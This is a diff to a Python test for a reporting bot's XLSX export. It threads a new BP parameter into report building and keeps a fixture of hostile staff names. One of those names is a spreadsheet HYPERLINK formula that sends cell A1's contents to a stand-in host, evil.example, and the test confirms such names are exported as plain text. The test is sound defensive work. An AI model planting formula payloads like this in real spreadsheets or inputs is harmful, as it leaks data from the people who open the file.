@@ -13,6 +13,7 @@ from bot.reports.stats import build_report
 from bot.storage import Database
 from bot.storage.corrections import report_correction
 from bot.storage.reports import open_corrections, staff_in_scope
+from tests.default_campaign import BP
 
 HOSTILE = {
     "Lê Văn Bình": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
@@ -47,7 +48,7 @@ def _no_formula(content: bytes) -> None:
 
 async def test_phu_luc_5_keeps_hostile_names_as_plain_text(demo_db: Database) -> None:
     await _hostile_roster(demo_db)
-    report = build_report(PROVINCE, await staff_in_scope(demo_db.reader, PROVINCE))
+    report = build_report(PROVINCE, await staff_in_scope(demo_db.reader, PROVINCE, BP), BP)
     content = render.phu_luc_5_xlsx(report)  # a control character used to fail every export
     _no_formula(content)
     rows = _cells(content)
